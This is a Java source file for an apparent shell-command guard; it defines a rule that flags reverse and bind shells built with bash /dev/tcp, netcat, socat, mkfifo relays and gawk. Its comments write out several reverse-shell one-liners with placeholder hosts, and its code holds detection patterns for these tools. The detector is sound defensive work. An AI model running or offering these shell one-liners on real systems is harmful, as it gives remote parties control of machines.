package dev.cmdguard.rules.execution;

import dev.cmdguard.FindingCode;
import dev.cmdguard.paths.PathClass;
import dev.cmdguard.rules.Findings;
import dev.cmdguard.rules.RuleContext;
import dev.cmdguard.unwrap.Arg;
import dev.cmdguard.unwrap.Invocation;
import dev.cmdguard.unwrap.ResolvedRedirect;
import dev.cmdguard.unwrap.Stdin;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * {@code REVERSE_SHELL} (locked critical): a shell whose input comes from, or whose output goes to,
 * a network connection, so that a remote party types the commands. The shapes of the public
 * cheat-sheets (PayloadsAllTheThings, "Reverse Shell Cheatsheet"):
 *
 * <ul>
 *   <li>bash's {@code /dev/tcp} and {@code /dev/udp} (bash manual, "Redirections") on a shell:
 *       {@code bash -i >& /dev/tcp/h/p 0>&1}, or a descriptor opened on one ({@code exec
 *       5<>/dev/tcp/h/p}) handed to a shell or a run-time command ({@code sh <&5 >&5});
 *   <li>netcat and friends executing a shell: {@code nc -e /bin/sh}, {@code ncat --exec}, {@code nc
 *       -c}, {@code socat exec:'bash -li' tcp:h:p};
 *   <li>a pipeline joining a shell and a raw connection: {@code nc h p | sh}, the {@code mkfifo}
 *       relay {@code cat /tmp/f|sh -i 2>&1|nc h p >/tmp/f}, {@code telnet h p | sh | telnet h q};
 *   <li>interpreter code that connects a socket to a shell ({@link InlineCode}).
 * </ul>
 *
 * A listening netcat feeding a shell (a bind shell) is the same hand-over and reported alike.
 */
final class ReverseShell {
  private static final Set<String> EXEC_OPTIONS =
      Set.of("-e", "-c", "--exec", "--sh-exec", "--lua-exec");

  /** {@code (c |& getline)}: a command held in a variable, run as a co-process. */
  private static final Pattern AWK_COMMAND = Pattern.compile("\\(\\s*\\w+\\s*\\|&\\s*getline");

  private ReverseShell() {}

  /** Reports every reverse shell; returns the indexes reported, so others do not repeat them. */
  static Set<Integer> check(RuleContext context, Findings findings) {
    Set<Integer> reported = new HashSet<>();
    List<Invocation> all = context.invocations();
    Set<String> socketFds = socketDescriptors(context);
    for (int i = 0; i < all.size(); i++) {
      Invocation inv = all.get(i);
      String why = redirected(context, inv, socketFds);
      if (why == null) {
        why = execs(inv);
      }
      if (why != null) {
        report(findings, i, inv, why);
        reported.add(i);
      }
    }
    for (int shell : Pipelines.shellsJoinedToSockets(context)) {
      if (reported.add(shell)) {
        report(findings, shell, all.get(shell), "reads its commands from a network connection");
      }
    }
    return reported;
  }

  private static void report(Findings findings, int index, Invocation inv, String why) {
    findings
        .report(FindingCode.REVERSE_SHELL, index)
        .message(inv.program() + " " + why + ": a remote machine controls this shell")
        .add();
  }

  /** A shell or run-time command with a redirection onto a socket or a socket descriptor. */
  private static String redirected(RuleContext context, Invocation inv, Set<String> socketFds) {
    boolean shell = Tools.runsCode(inv.program()) || inv.has(Invocation.Trait.DYNAMIC_PROGRAM);
    if (!shell) {
      return null;
    }
    if (inv.stdin() instanceof Stdin.File f && isSocket(context, inv, f.path())) {
      return "reads from " + f.path().value();
    }
    for (ResolvedRedirect r : inv.redirects()) {
      if (r.toDescriptor() && socketFds.contains(r.target().value())) {
        return "is wired to descriptor " + r.target().value() + ", a network connection";
      }
      if (!r.toDescriptor() && isSocket(context, inv, r.target())) {
        return "is wired to " + r.target().value();
      }
    }
    return null;
  }

  /** Descriptors opened on {@code /dev/tcp} or {@code /dev/udp} ({@code exec 5<>/dev/tcp/h/p}). */
  private static Set<String> socketDescriptors(RuleContext context) {
    Set<String> fds = new HashSet<>();
    for (Invocation inv : context.invocations()) {
      for (ResolvedRedirect r : inv.redirects()) {
        if (!r.toDescriptor() && isSocket(context, inv, r.target())) {
          fds.add(String.valueOf(r.fd()));
        }
      }
    }
    return fds;
  }

  static boolean isSocket(RuleContext context, Invocation inv, Arg target) {
    String v = target.dynamic() ? target.knownPrefix() : target.value();
    return (v.contains("tcp/") || v.contains("udp/"))
        && context.classify(inv, target).has(PathClass.NETWORK_SOCKET);
  }

  /** {@code nc -e /bin/sh}, {@code ncat --exec bash}, {@code socat exec:sh tcp:h:p}, gawk. */
  private static String execs(Invocation inv) {
    String program = inv.program();
    if (program.equals("socat")) {
      return socat(inv.args());
    }
    if (program.endsWith("awk")) {
      return awk(inv.args());
    }
    return Tools.SOCKETS.contains(program) && !program.equals("openssl")
        ? netcat(inv.args())
        : null;
  }

  /** netcat/ncat {@code -e PROGRAM}, {@code -c COMMAND}, {@code --exec}, {@code --sh-exec}. */
  private static String netcat(List<Arg> args) {
    for (int i = 0; i < args.size(); i++) {
      String v = args.get(i).value();
      int eq = v.indexOf('=');
      String option = v.startsWith("--") && eq > 0 ? v.substring(0, eq) : v;
      String program;
      if (EXEC_OPTIONS.contains(option)) {
        program = eq > 0 && v.startsWith("--") ? v.substring(eq + 1) : next(args, i);
      } else if (v.startsWith("-e/") || v.startsWith("-c/")) {
        option = v.substring(0, 2);
        program = v.substring(2);
      } else {
        continue;
      }
      boolean shellCommand = option.equals("-c") || option.equals("--sh-exec");
      List<String> words =
          shellCommand ? CodeText.commandWords(program) : List.of(program.split(" ")[0]);
      if (words.stream().anyMatch(w -> Tools.runsCode(Tools.baseName(w)))) {
        return "executes " + program + " for whoever is on the other end";
      }
    }
    return null;
  }

  private static String next(List<Arg> args, int i) {
    return i + 1 < args.size() ? args.get(i + 1).value() : "";
  }

  /**
   * gawk's {@code /inet/tcp/…} special files (gawk manual, "TCP/IP Networking") with a received
   * line run as a command through {@code (cmd |& getline)}.
   */
  private static String awk(List<Arg> args) {
    for (Arg a : args) {
      if (a.value().contains("/inet") && AWK_COMMAND.matcher(a.value()).find()) {
        return "runs the commands it receives over /inet";
      }
    }
    return null;
  }

  /**
   * socat(1) joining a network address ({@code tcp:}, {@code tcp-listen:}, {@code openssl:} …) to
   * an {@code exec:} or {@code system:} address that runs a shell or interpreter ({@code exec:'bash
   * -li',pty}); {@code exec:./server.sh} (a fixed program) is not a shell hand-over.
   */
  private static String socat(List<Arg> args) {
    String shell = null;
    boolean net = false;
    for (Arg a : args) {
      String v = a.value();
      String lower = v.toLowerCase(Locale.ROOT);
      if (lower.startsWith("exec:") || lower.startsWith("system:")) {
        String command = v.substring(v.indexOf(':') + 1).split(",")[0];
        List<String> words =
            lower.startsWith("system:")
                ? CodeText.commandWords(command)
                : List.of(command.split(" ")[0]);
        if (words.stream().anyMatch(w -> Tools.runsCode(Tools.baseName(w)))) {
          shell = command;
        }
      }
      net |= lower.matches("(tcp|tcp4|tcp6|udp|udp4|udp6|sctp|openssl|ssl)[a-z0-9-]*:.*");
    }
    return shell != null && net ? "runs " + shell + " on a network connection" : null;
  }
}
